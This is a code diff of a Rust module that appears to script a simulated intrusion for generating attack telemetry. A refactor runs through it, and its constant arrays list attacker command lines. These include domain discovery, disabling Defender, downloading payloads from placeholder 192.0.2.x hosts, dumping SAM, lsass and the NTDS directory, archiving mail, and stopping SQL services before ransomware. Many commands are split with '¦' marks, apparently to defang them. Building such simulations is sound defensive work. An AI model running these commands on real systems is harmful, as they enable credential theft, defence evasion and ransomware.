@@ -1,43 +1,42 @@
 //! What the fresh set's intruders do after the page.
 
 use crate::attack::aftermath::{Aftermath, Deed, Left, Ransom, RegistryChange, Set};
+use crate::program::{CMD, POWERSHELL, W3WP};
 use crate::technique::Technique;
 
-const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
-const W3WP: &str = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
-const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
 const WMI: &str = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
-
-const fn deed(technique: Technique, parent: &'static str, image: &'static str, command: &'static str) -> Deed {
-    Deed { technique, parent, image, command }
-}
 
 /// A look around, by shells that the page had started: it completes the picture.
 pub(super) const LOOK_AROUND: [Deed; 9] = [
-    deed(Technique::Discovery, CMD, "C:\\Windows\\System32\\quser.exe", "quser"),
-    deed(Technique::Discovery, CMD, "C:\\Windows\\System32\\nltest.exe", "nltest  /domain_trusts /all_trusts"),
-    deed(
+    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\quser.exe", "quser"),
+    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\nltest.exe", "nltest  /domain_trusts /all_trusts"),
+    Deed::new(
         Technique::Discovery,
         CMD,
         "C:\\Windows\\System32\\net.exe",
         "net  group \"Exchange Trusted Subsystem\" /domain",
     ),
-    deed(Technique::Discovery, CMD, "C:\\Windows\\System32\\net1.exe", "C:\\Windows\\system32\\net1  accounts /domain"),
-    deed(
+    Deed::new(
+        Technique::Discovery,
+        CMD,
+        "C:\\Windows\\System32\\net1.exe",
+        "C:\\Windows\\system32\\net1  accounts /domain",
+    ),
+    Deed::new(
         Technique::Discovery,
         CMD,
         "C:\\Windows\\System32\\dsquery.exe",
         "dsquery  * -limit 0 -filter \"(objectCategory=computer)\" -attr dNSHostName operatingSystem",
     ),
-    deed(
+    Deed::new(
         Technique::Discovery,
         CMD,
         "C:\\Windows\\System32\\wevtutil.exe",
         "wevtutil  qe Security /q:*[System[(EventID=4624)]] /rd:true /f:text /c:200",
     ),
-    deed(Technique::Discovery, CMD, "C:\\Windows\\System32\\cmdkey.exe", "cmdkey  /list"),
-    deed(Technique::Discovery, CMD, "C:\\Windows\\System32\\PING.EXE", "ping  -n 1 -a 10.20.0.5"),
-    deed(
+    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\cmdkey.exe", "cmdkey  /list"),
+    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\PING.EXE", "ping  -n 1 -a 10.20.0.5"),
+    Deed::new(
         Technique::LateralMove,
         CMD,
         "C:\\Windows\\System32\\net.exe",
@@ -47,31 +46,31 @@ pub(super) const LOOK_AROUND: [Deed; 9] = [
 
 /// How defence is switched off and tools are brought.
 pub(super) const MAKE_READY: [Deed; 5] = [
-    deed(
+    Deed::new(
         Technique::DefenceOff,
         W3WP,
         POWERSHELL,
         "powershell  Set-Mp¦Preference -Disable¦RealtimeMonitoring 1 -SubmitSamplesConsent NeverSend",
     ),
-    deed(
+    Deed::new(
         Technique::DefenceOff,
         CMD,
         "C:\\Windows\\System32\\wbem\\WMIC.exe",
         "wmic.exe  product where \"name like '%Apex One%'\" call uninst¦all /nointeractive",
     ),
-    deed(
+    Deed::new(
         Technique::Download,
         CMD,
         "C:\\Windows\\System32\\bitsadmin.exe",
         "bits¦admin  /transfer WindowsUpdates /priority normal http://192.0.2.183:8080/i.png C:\\Windows\\Help\\Corporate\\i.dat",
     ),
-    deed(
+    Deed::new(
         Technique::Download,
         CMD,
         "C:\\Windows\\System32\\certutil.exe",
         "cert¦util  -decode C:\\Windows\\Help\\Corporate\\i.dat C:\\Windows\\Help\\Corporate\\hh.exe",
     ),
-    deed(
+    Deed::new(
         Technique::ScriptRun,
         W3WP,
         POWERSHELL,
@@ -80,7 +79,7 @@ pub(super) const MAKE_READY: [Deed; 5] = [
 ];
 
 /// The firewall lets a tool in.
-pub(super) const LET_IN: [Deed; 1] = [deed(
+pub(super) const LET_IN: [Deed; 1] = [Deed::new(
     Technique::FirewallRule,
     CMD,
     "C:\\Windows\\System32\\netsh.exe",
@@ -89,49 +88,49 @@ pub(super) const LET_IN: [Deed; 1] = [deed(
 
 /// How credentials, mail and the directory are taken.
 pub(super) const TAKE: [Deed; 8] = [
-    deed(
+    Deed::new(
         Technique::CredentialDump,
         CMD,
         "C:\\Windows\\System32\\reg.exe",
         "reg  save hk¦lm\\sam C:\\Windows\\Temp\\debugsms.evt",
     ),
-    deed(
+    Deed::new(
         Technique::CredentialDump,
         CMD,
         "C:\\Windows\\System32\\reg.exe",
         "reg  save hk¦lm\\system C:\\Windows\\Temp\\debugsys.evt",
     ),
-    deed(
+    Deed::new(
         Technique::CredentialDump,
         POWERSHELL,
         "C:\\Windows\\System32\\rundll32.exe",
         "\"C:\\Windows\\System32\\rundll32.exe\" C:\\windows\\System32\\coms¦vcs.dll, #24 648 C:\\Windows\\Temp\\msdtcadv.tmp full",
     ),
-    deed(
+    Deed::new(
         Technique::DirectoryDump,
         WMI,
         CMD,
         "cmd.exe /Q /c vss¦admin list shadows /for=C: 1> \\\\127.0.0.1\\ADMIN$\\__1615689034.71 2>&1",
     ),
-    deed(
+    Deed::new(
         Technique::LateralMove,
         CMD,
         "C:\\Windows\\System32\\wbem\\WMIC.exe",
         "wmic  /node:10.20.0.5 /user:SHIOKAZE\\svc-backup process call create \"cmd /c nt¦dsutil \\\"ac in ntds\\\" ifm \\\"cr fu C:\\Windows\\Temp\\ad\\\" q q\"",
     ),
-    deed(
+    Deed::new(
         Technique::StagedArchive,
         CMD,
         "C:\\Windows\\System32\\makecab.exe",
         "make¦cab  C:\\Windows\\Temp\\msdtcadv.tmp C:\\Windows\\Temp\\msdtc.cab",
     ),
-    deed(
+    Deed::new(
         Technique::StagedArchive,
         CMD,
         "C:\\Windows\\Help\\Corporate\\mui.exe",
         "mui.exe  a -r -v200m -hp#Zt90 -ta20200101 -n*.pst -n*.docx C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\bg.png D:\\共有\\",
     ),
-    deed(
+    Deed::new(
         Technique::RemoteTool,
         CMD,
         "C:\\Windows\\Help\\Corporate\\hh.exe",
@@ -176,25 +175,25 @@ pub(super) const CONNECT_BACK: [&str; 3] = [
 
 /// What the last of them does before the ransom.
 pub(super) const BEFORE_RANSOM: [Deed; 4] = [
-    deed(
+    Deed::new(
         Technique::Download,
         W3WP,
         POWERSHELL,
         "powershell  -c \"(New-Object System.Net.Web¦Client).Down¦loadFile('http://192.0.2.209/vpn-service/qw.exe','C:\\Windows\\System32\\pdlxmrnzqywoktbe.exe')\"",
     ),
-    deed(
+    Deed::new(
         Technique::Ransom,
         WMI,
         "C:\\Windows\\System32\\pdlxmrnzqywoktbe.exe",
         "C:\\Windows\\System32\\pdlxmrnzqywoktbe.exe",
     ),
-    deed(
+    Deed::new(
         Technique::Ransom,
         "C:\\Windows\\System32\\pdlxmrnzqywoktbe.exe",
         POWERSHELL,
         "powershell.exe Get-Service *sql*|Stop-Ser¦vice -Force 2>$null",
     ),
-    deed(
+    Deed::new(
         Technique::LogClearing,
         "C:\\Windows\\System32\\pdlxmrnzqywoktbe.exe",
         POWERSHELL,
